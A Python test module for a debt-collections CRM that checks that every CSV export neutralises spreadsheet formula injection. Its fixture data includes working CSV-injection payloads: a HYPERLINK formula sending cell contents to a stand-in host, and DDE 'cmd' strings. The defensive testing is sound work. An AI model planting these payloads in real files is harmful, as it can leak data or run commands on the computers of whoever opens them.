"""Every CSV the product writes, fed hostile text: no cell a spreadsheet would run as a formula.

Debtor names, customer codes, account and payment references, call notes, portfolio, team and
collector names, and rejected import values of each dangerous kind (OWASP: = + - @ tab CR) go
into every export; no cell of any of them may start like a formula, and each export is checked
to carry the values it should (neutralised), so an export with no rows cannot pass.
"""

import csv
import io
import re
from datetime import date, datetime, timedelta
from decimal import Decimal
from zoneinfo import ZoneInfo

import pytest
import time_machine
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import Workbook

from calls.models import Call
from collections_crm.users.models import Role, Team
from collections_crm.users.services import user_create
from debtors.models import Creditor, DebtSnapshot
from debtors.services import import_job_create
from debtors.tasks import run_import_job
from supervision.services import promise_rollups_refresh
from tests import factories
from tests.api.conftest import token_client

PAYLOADS = {
    "equals": '=HYPERLINK("http://x.example/?q="&A1,"Pagar")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+9)*cmd|' /C calc'!A0",
    "tab": "\t=1+2",
    "carriage_return": "\r=1+2",
}
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"^[+-]?\d+(?:[.,]\d+)?$")
TODAY = date(2026, 11, 18)


def _cells(response) -> list[list[str]]:
    assert response.status_code == 200, response
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def _neutralised(value: str) -> str:
    return "'" + value


@pytest.fixture
def clock():
    with time_machine.travel(datetime(2026, 11, 18, 10, 0, tzinfo=ZoneInfo("America/Lima")), tick=False):
        yield


@pytest.fixture
def hostile(high_ids, clock, settings, tmp_path, ana, sofia, carla):
    """A supervisor's world where every free text a person typed or a file brought is hostile."""
    settings.MEDIA_ROOT = tmp_path / "media"
    team = Team.objects.create(name=PAYLOADS["at"], supervisor=sofia)
    nora = user_create(
        username="nora", password="x" * 20, role=Role.COLLECTOR, team=team, first_name=PAYLOADS["minus"], last_name=""
    )
    portfolio = factories.make_portfolio(
        name=PAYLOADS["equals"], creditor=Creditor.objects.create(name=PAYLOADS["plus"])
    )
    for kind, payload in PAYLOADS.items():
        collector = nora if kind in ("tab", "carriage_return") else carla
        debtor = factories.make_debtor(
            portfolio=portfolio, assigned_to=collector, full_name=payload, external_id=payload
        )
        debt = factories.make_debt(
            debtor=debtor, account_reference=payload, balance=Decimal("250.00"), due_date=TODAY - timedelta(days=40)
        )
        for taken_on, bucket in ((date(2026, 9, 30), "1-30"), (date(2026, 10, 31), "31-60")):
            DebtSnapshot.objects.create(
                debt=debt, taken_on=taken_on, days_past_due=10, aging_bucket=bucket, balance=Decimal("250.00")
            )
        call = factories.make_call(
            debtor=debtor,
            collector=collector,
            outcome=Call.Outcome.RIGHT_PARTY,
            notes=payload,
            stance="objection",
            stance_reason="forgot",
        )
        factories.make_promise(
            debtor=debtor, collector=collector, call=call, amount=Decimal("120.00"), due_date=TODAY, status="broken"
        )
        factories.make_payment(debtor=debtor, amount=Decimal("80.00"), credited_to=collector, reference=payload)
    promise_rollups_refresh()
    return portfolio


def _xlsx(rows) -> bytes:
    """An .xlsx whose cells are text as another program writes them (openpyxl would otherwise
    store a text starting with "=" as a formula)."""
    book = Workbook()
    for row in rows:
        book.active.append(row)
    for row in book.active.iter_rows():
        for cell in row:
            if isinstance(cell.value, str):
                cell.data_type = "s"
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def _import_job(ana, portfolio, kind, rows, rejected_values):
    # An .xlsx file: the values reach the reader exactly as typed (a CSV file with a carriage
    # return in a quoted cell trips the delimiter detection: see this branch's report).
    upload = SimpleUploadedFile(f"{kind}.xlsx", _xlsx(rows))
    job = import_job_create(user=ana, kind=kind, file=upload, portfolio=portfolio)
    run_import_job(job.pk)
    job.refresh_from_db()
    assert job.rejected_count == len(rejected_values), (job.status, job.error)
    return job, rejected_values


@pytest.fixture
def rejected_portfolio_rows(hostile, ana):
    """A portfolio file whose every row is refused for a hostile balance (with a hostile name)."""
    rows = [["Código de cliente", "Nombre", "Saldo", "Fecha de vencimiento"]]
    rows += [[f"R-{n}", payload, payload, "31/08/2026"] for n, payload in enumerate(PAYLOADS.values())]
    return _import_job(ana, hostile, "portfolio", rows, list(PAYLOADS.values()))


@pytest.fixture
def rejected_payment_rows(hostile, ana):
    """A payments file whose every row names a hostile customer code nobody has."""
    codes = [f"{payload} X" for payload in PAYLOADS.values()]
    rows = [["Referencia", "Código de cliente", "Monto pagado", "Fecha de pago"]]
    rows += [[payload, code, "10,00", "01/11/2026"] for payload, code in zip(PAYLOADS.values(), codes)]
    return _import_job(ana, hostile, "payments", rows, codes)


WEEK = {"period": "week"}
DASHBOARD_EXPORTS = {
    # name: (URL name, query, what each of the six hostile values must appear as, neutralised)
    "collectors": ("promises:dashboard", {**WEEK, "format": "csv"}, ("team", "collector")),
    "trend": ("promises:dashboard", {**WEEK, "format": "csv", "table": "trend"}, ()),
    "figures": ("promises:figures_export", WEEK, ()),
    "promises made": (
        "promises:promises_behind",
        {**WEEK, "kind": "made", "format": "csv"},
        ("debtor", "portfolio", "collector"),
    ),
    "promises due": (
        "promises:promises_behind",
        {**WEEK, "kind": "due", "status": "broken", "currency": "PEN", "format": "csv"},
        ("debtor",),
    ),
    "calls": ("promises:calls_behind", {**WEEK, "format": "csv"}, ("debtor", "note", "portfolio", "collector")),
    "payments": (
        "promises:payments_behind",
        {**WEEK, "format": "csv"},
        ("debtor", "reference", "portfolio", "collector"),
    ),
    "objections and situations": ("promises:health", {**WEEK, "format": "csv", "table": "stances"}, ()),
    "roll rates": ("promises:health", {"format": "csv", "table": "rolls"}, ()),
    "balances by aging bucket": ("promises:health", {"format": "csv"}, ()),
    "debts in a bucket": (
        "promises:debts_behind",
        {"bucket": "31-60", "format": "csv"},
        ("debtor", "reference", "portfolio"),
    ),
    "calls to review": ("review:list", {"format": "csv"}, ("debtor", "collector")),
}
IMPORT_EXPORTS = (
    "portfolio rejected rows (page)",
    "portfolio rejected rows (API)",
    "payment rejected rows (page)",
    "payment rejected rows (API)",
)


def _expected(carries) -> set[str]:
    """The hostile values an export must show, as written once neutralised."""
    values = set()
    for field in carries:
        if field in ("debtor", "note", "reference"):
            values |= {_neutralised(payload) for payload in PAYLOADS.values()}
        elif field == "portfolio":
            values.add(_neutralised(PAYLOADS["equals"]))
        elif field == "team":
            values.add(_neutralised(PAYLOADS["at"]))
        elif field == "collector":
            values.add(_neutralised(PAYLOADS["minus"]))
    return values


def _assert_no_formula(rows):
    assert rows, "an export with no rows proves nothing"
    for row in rows:
        for cell in row:
            if cell.startswith(TRIGGERS):
                assert PLAIN_NUMBER.match(cell), f"a spreadsheet would run {cell!r} (row {row})"


@pytest.mark.parametrize("export", [*DASHBOARD_EXPORTS, *IMPORT_EXPORTS])
def test_no_export_writes_a_cell_a_spreadsheet_would_run(export, request, client, sofia, ana, hostile):
    if export in DASHBOARD_EXPORTS:
        url_name, query, carries = DASHBOARD_EXPORTS[export]
        client.force_login(sofia)
        rows = _cells(client.get(reverse(url_name), query))
        assert len(rows) > 1, "the export holds data rows"
    else:
        job, rejected = request.getfixturevalue(
            "rejected_payment_rows" if export.startswith("payment") else "rejected_portfolio_rows"
        )
        if export.endswith("(API)"):
            rows = _cells(token_client(ana).get(f"/api/v1/imports/{job.pk}/rejected/", HTTP_ACCEPT="text/csv"))
        else:
            client.force_login(ana)
            rows = _cells(client.get(reverse("debtors:import_rejected", args=[job.pk])))
        carries = ("rejected value",)
    _assert_no_formula(rows)
    cells = {cell for row in rows for cell in row}
    if carries == ("rejected value",):
        # A reader may trim what it rejected: the value shows, neutralised, with or without the
        # leading tab or carriage return.
        for value in rejected:
            assert {_neutralised(value), _neutralised(value.strip())} & cells, value
    else:
        assert _expected(carries) <= cells, sorted(_expected(carries) - cells)


def test_numbers_stay_numbers_next_to_hostile_text(client, sofia, hostile):
    client.force_login(sofia)
    header, *rows = _cells(client.get(reverse("promises:payments_behind"), {**WEEK, "format": "csv"}))
    amounts = {row[header.index("Importe")] for row in rows}
    assert amounts == {"80.00"}  # written as a number, no quote in front
    collectors = _cells(client.get(reverse("promises:dashboard"), {**WEEK, "format": "csv"}))
    rate = collectors[0].index("Tasa de contacto")
    assert {row[rate] for row in collectors[1:]} == {"1.0000"}


# Writers of CSV that no person opens in a spreadsheet: rows copied into PostgreSQL with COPY,
# where a quote in front would change the data.
NOT_FOR_SPREADSHEETS = {
    "debtors/importing/staging.py",
    "demo/seeding/rows.py",
    "collections_crm/lib/downloads.py",
    "scoring/services.py",
}


def test_every_csv_for_people_is_written_through_the_safe_writer():
    """A new export written with csv.writer directly would skip the neutralisation."""
    from django.conf import settings

    root = settings.BASE_DIR
    offenders = []
    for package in (
        "collections_crm",
        "debtors",
        "calls",
        "promises",
        "scoring",
        "conversations",
        "supervision",
        "desk",
        "demo",
    ):
        for path in (root / package).rglob("*.py"):
            relative = path.relative_to(root).as_posix()
            if relative in NOT_FOR_SPREADSHEETS or "/migrations/" in relative:
                continue
            if re.search(r"csv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8")):
                offenders.append(relative)
    assert offenders == [], f"write these CSVs with SafeCsvWriter or csv_response: {offenders}"
